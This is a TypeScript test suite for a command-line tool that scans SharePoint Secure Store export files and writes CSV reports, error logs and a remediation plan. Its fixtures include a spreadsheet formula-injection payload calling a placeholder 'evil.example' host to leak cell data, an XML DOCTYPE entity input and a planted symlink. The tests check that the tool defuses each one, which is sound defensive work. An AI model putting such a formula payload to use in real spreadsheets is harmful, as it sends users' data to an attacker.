import { mkdir, readdir, readFile, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { runCli } from '../helpers/cli.js';
import { readCsv } from '../helpers/csv.js';
import { exporterApp, objs, site, tempDir, writeClixml } from '../helpers/clixml.js';

async function exportFolder(): Promise<string> {
  const dir = await tempDir('farmscan-export-');
  await writeClixml(
    path.join(dir, 'SecureStoreApplications.xml'),
    objs(
      exporterApp({ id: 'HRPayrollDB', type: 'Group', friendlyName: 'HR, Payroll "DB"', members: ['c:0+.w|s-1-5-21-1-2-3-1105'] }) +
        exporterApp({ id: 'SAPConnector', type: 'Individual', friendlyName: '=HYPERLINK("http://evil.example/?x="&amp;A1,"SAP")', email: null }) +
        exporterApp({ id: 'Legacy', type: 'GroupWithTicketing', timeout: 15 }),
    ),
    'utf16le',
  );
  await writeClixml(
    path.join(dir, 'More.xml'),
    objs(exporterApp({ id: 'Zürich Lohn', type: 'RestrictedGroup' }) + site({ url: 'https://intranet.contoso.com/sites/a', readLocked: true })),
    'utf8',
  );
  return dir;
}

const HEADER = ['ApplicationID', 'Name', 'FriendlyName', 'ContactEmail', 'ApplicationType', 'CredentialManagementURL', 'TicketTimeout', 'ScanID'];

describe('farmscan scan', () => {
  test('writes SMAT-exact SecureStoreApplications-detail.csv from UTF-16 and UTF-8 files', async () => {
    const dir = await exportFolder();
    const out = path.join(dir, 'out');
    const run = await runCli(['scan', dir, '--out', out, '--scan-id', 'scan-1']);
    expect(run.code).toBe(0);
    expect(run.stderr).toContain('2 files, 5 records, 0 failed');
    const csv = await readCsv(path.join(out, 'ScannerReports', 'SecureStoreApplications-detail.csv'));
    expect(csv.bom).toBe(true);
    expect(csv.crlf).toBe(true);
    expect(csv.rows[0]).toEqual(HEADER);
    // Files in path order (More.xml before SecureStoreApplications.xml), records in file order.
    expect(csv.rows.slice(1)).toEqual([
      ['Zürich Lohn', 'Zürich Lohn', 'Zürich Lohn', 'it@contoso.com', 'RestrictedGroup', '', '0', 'scan-1'],
      ['HRPayrollDB', 'HRPayrollDB', 'HR, Payroll "DB"', 'it@contoso.com', 'Group', '', '0', 'scan-1'],
      ['SAPConnector', 'SAPConnector', `'=HYPERLINK("http://evil.example/?x="&A1,"SAP")`, '', 'Individual', '', '0', 'scan-1'],
      ['Legacy', 'Legacy', 'Legacy', 'it@contoso.com', 'GroupWithTicketing', '', '15', 'scan-1'],
    ]);
    const errors = await readCsv(path.join(out, 'ScanErrors.csv'));
    expect(errors.rows).toEqual([['File', 'Line', 'Column', 'Message', 'ScanID']]);
  });

  test('a fresh UUID is the ScanID when none is given, the same on every row', async () => {
    const dir = await exportFolder();
    const out = path.join(dir, 'out');
    await runCli(['scan', dir, '--out', out]);
    const { rows } = await readCsv(path.join(out, 'ScannerReports', 'SecureStoreApplications-detail.csv'));
    const ids = new Set(rows.slice(1).map((r) => r[7]));
    expect(ids.size).toBe(1);
    expect([...ids][0]).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
  });

  test('one bad file becomes one error row and one stderr line; the others are still scanned; exit 2', async () => {
    const dir = await exportFolder();
    await writeFile(path.join(dir, 'Broken.xml'), objs('<Obj RefId="0"><MS><S N="ApplicationId">x</S>').slice(0, 120));
    await writeFile(path.join(dir, 'Doctype.xml'), '<!DOCTYPE x [<!ENTITY e "e">]><Objs/>');
    await writeFile(path.join(dir, 'Empty.xml'), '');
    const out = path.join(dir, 'out');
    const run = await runCli(['scan', dir, '--out', out, '--scan-id', 's']);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('5 files, 5 records, 3 failed');
    expect(run.stderr).not.toMatch(/\n\s+at /); // no stack trace
    const errors = (await readCsv(path.join(out, 'ScanErrors.csv'))).rows.slice(1);
    expect(errors.map((r) => r[0])).toEqual(['Broken.xml', 'Doctype.xml', 'Empty.xml']);
    expect(errors[1][3]).toMatch(/DOCTYPE/);
    for (const row of errors) expect(run.stderr).toContain(`farmscan: ${row[0]}:`);
    const apps = (await readCsv(path.join(out, 'ScannerReports', 'SecureStoreApplications-detail.csv'))).rows;
    expect(apps).toHaveLength(5);
    // The plan says it may be incomplete, and script repeats it.
    const plan = JSON.parse(await readFile(path.join(out, 'remediation-plan.json'), 'utf8'));
    expect(plan.incompleteScan).toEqual({ scanErrors: 3, failedFiles: ['Broken.xml', 'Doctype.xml', 'Empty.xml'] });
    const script = await runCli(['script', path.join(out, 'remediation-plan.json'), '--out', path.join(dir, 'r.ps1')]);
    expect(script.stderr).toContain('warning: the scan that wrote this plan met 3 error(s) (failed files: Broken.xml, Doctype.xml, Empty.xml)');
  });

  test('byte-identical outputs at any concurrency', async () => {
    const dir = await exportFolder();
    for (let i = 0; i < 6; i++) await writeClixml(path.join(dir, `extra-${i}.xml`), objs(exporterApp({ id: `App${i}`, type: 'Group' })), i % 2 ? 'utf16le' : 'utf8');
    const outputs: string[][] = [];
    for (const concurrency of ['1', '3', '8']) {
      const out = path.join(dir, `out-${concurrency}`);
      const run = await runCli(['scan', dir, '--out', out, '--scan-id', 'same', '--scan-time', '2026-11-23T00:00:00Z', '--concurrency', concurrency]);
      expect(run.code).toBe(0);
      const files = await listFiles(out);
      outputs.push(await Promise.all(files.map(async (f) => `${f}\n${await readFile(path.join(out, f), 'utf8')}`)));
    }
    expect(outputs[1]).toEqual(outputs[0]);
    expect(outputs[2]).toEqual(outputs[0]);
  });

  test('user errors end in one line and exit 1, with nothing written', async () => {
    const dir = await tempDir();
    const missing = await runCli(['scan', path.join(dir, 'nope'), '--out', path.join(dir, 'out')]);
    expect(missing.code).toBe(1);
    expect(missing.stderr.trim().split('\n')).toHaveLength(1);
    expect(missing.stderr).toMatch(/nope: the export folder does not exist/);
    const empty = await runCli(['scan', dir, '--out', path.join(dir, 'out')]);
    expect(empty.code).toBe(1);
    expect(empty.stderr).toMatch(/no export files/);
    expect(await readdir(dir)).toEqual([]);
    const badConcurrency = await runCli(['scan', dir, '--out', path.join(dir, 'out'), '--concurrency', '0']);
    expect(badConcurrency.code).toBe(1);
    expect(badConcurrency.stderr).toMatch(/--concurrency/);
    const unknownScanner = await runCli(['scan', (await exportFolder()), '--out', path.join(dir, 'out'), '--scanners', 'nope']);
    expect(unknownScanner.stderr).toMatch(/unknown scanner "nope"/);
  });

  test('a symlink planted in the output folder is replaced, never followed', async () => {
    const dir = await exportFolder();
    const out = path.join(dir, 'out');
    await mkdir(path.join(out, 'ScannerReports'), { recursive: true });
    const victim = path.join(dir, 'victim.txt');
    await writeFile(victim, 'untouched');
    await symlink(victim, path.join(out, 'ScannerReports', 'SecureStoreApplications-detail.csv'));
    await symlink(victim, path.join(out, 'remediation-plan.json'));
    const run = await runCli(['scan', dir, '--out', out, '--scan-id', 's']);
    expect(run.code).toBe(0);
    expect(await readFile(victim, 'utf8')).toBe('untouched');
    expect((await readCsv(path.join(out, 'ScannerReports', 'SecureStoreApplications-detail.csv'))).rows).toHaveLength(5);
  });

  test('--json prints a machine-readable summary on stdout and nothing else', async () => {
    const dir = await exportFolder();
    const run = await runCli(['scan', dir, '--out', path.join(dir, 'out'), '--json', '--quiet', '--scan-id', 'j']);
    const summary = JSON.parse(run.stdout);
    expect(summary).toMatchObject({ scanId: 'j', files: 2, records: 5, failedFiles: 0, exitCode: 0 });
    expect(summary.findings['secure-store/convert']).toBe(2);
    expect(run.stderr).toBe('');
  });

  test('farmscan scanners lists the built-in scanners', async () => {
    const run = await runCli(['scanners']);
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(/^secure-store\s+Secure Store target applications \(reads: secureStoreApplication\)$/m);
  });
});

async function listFiles(dir: string, prefix = ''): Promise<string[]> {
  const entries = await readdir(path.join(dir, prefix), { withFileTypes: true });
  const files: string[] = [];
  for (const entry of entries.sort((a, b) => a.name.localeCompare(b.name))) {
    const rel = path.join(prefix, entry.name);
    if (entry.isDirectory()) files.push(...(await listFiles(dir, rel)));
    else files.push(rel);
  }
  return files;
}

test('--scan-id and --scan-time are checked before anything is written', async () => {
  const dir = await tempDir();
  await writeClixml(path.join(dir, 'a.xml'), objs(exporterApp({ id: 'A', type: 'Group' })));
  const badId = await runCli(['scan', dir, '--out', path.join(dir, 'out'), '--scan-id', 'a\nb']);
  expect(badId.code).toBe(1);
  expect(badId.stderr).toMatch(/--scan-id must be/);
  const badTime = await runCli(['scan', dir, '--out', path.join(dir, 'out'), '--scan-time', 'yesterday']);
  expect(badTime.code).toBe(1);
  expect(badTime.stderr).toMatch(/--scan-time must be an ISO 8601/);
  expect(await readdir(dir)).toEqual(['a.xml']);
});

test('--scanners: reports of scanners that did not run are neither written nor left from an earlier scan', async () => {
  const dir = await tempDir();
  await writeClixml(path.join(dir, 'a.xml'), objs(exporterApp({ id: 'A', type: 'Group' }) + site({ url: 'https://x/sites/a', readLocked: true })));
  const out = path.join(dir, 'out');
  expect((await runCli(['scan', dir, '--out', out, '--scan-id', 'full'])).code).toBe(0);
  expect((await runCli(['scan', dir, '--out', out, '--scan-id', 'sites', '--scanners', 'locked-sites'])).code).toBe(0);
  const files = await listFiles(out);
  expect(files).not.toContain('remediation-plan.json');
  expect(files).not.toContain(path.join('ScannerReports', 'SecureStoreApplications-detail.csv'));
  expect((await readCsv(path.join(out, 'ScannerReports', 'LockedSites-detail.csv'))).rows).toEqual([['URL', 'ScanID'], ['https://x/sites/a', 'sites']]);
  // The summary says which sections were not scanned instead of showing zeros for them.
  const sitesOnly = await readFile(path.join(out, 'summary.html'), 'utf8');
  expect(sitesOnly).toContain('Not scanned: this scan ran with --scanners, without secure-store.');
  expect(sitesOnly).toContain('<span class="big" data-key="tile-redesign">–</span>');
  expect(sitesOnly).toContain('data-key="tile-noaccess">1<');

  expect((await runCli(['scan', dir, '--out', out, '--scan-id', 'apps', '--scanners', 'secure-store'])).code).toBe(0);
  const appsOnly = await readFile(path.join(out, 'summary.html'), 'utf8');
  expect(appsOnly).toContain('Not scanned: this scan ran with --scanners, without locked-sites.');
  expect(appsOnly).toContain('<span class="big" data-key="tile-noaccess">–</span>');
  expect(appsOnly).not.toContain('data-key="lock-Unlock"'); // not "every site unlocked"
  expect(appsOnly).toContain('Not scanned: this scan ran with --scanners, without profile-mappings.');
});
